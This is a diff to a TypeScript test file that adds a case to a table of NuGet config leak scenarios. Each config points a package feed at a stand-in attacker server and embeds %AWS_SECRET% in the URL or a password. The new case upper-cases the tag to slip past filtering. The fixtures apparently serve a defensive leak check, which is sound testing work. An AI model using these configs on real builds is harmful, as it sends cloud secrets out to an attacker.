@@ -67,6 +67,11 @@ const LOCK = JSON.stringify({ version: 1, dependencies: { "net10.0": {} } });
 const LEAKS: readonly (readonly [what: string, config: () => string, secret: string])[] = [
   ["a variable in an address", () => nugetConfig({ feed: `${evil.url}/%AWS_SECRET%/index.json` }), "aws-secret"],
   [
+    "a variable in an address, in letters that NuGet reads as well",
+    () => nugetConfig({ feed: `${evil.url}/%AWS_SECRET%/index.json` }).replaceAll("<add ", "<ADD "),
+    "aws-secret",
+  ],
+  [
     "a variable in a password",
     () => nugetConfig({ feed: `${evil.url}/index.json` }, credentials("feed", "%AWS_SECRET%")),
     "aws-secret",
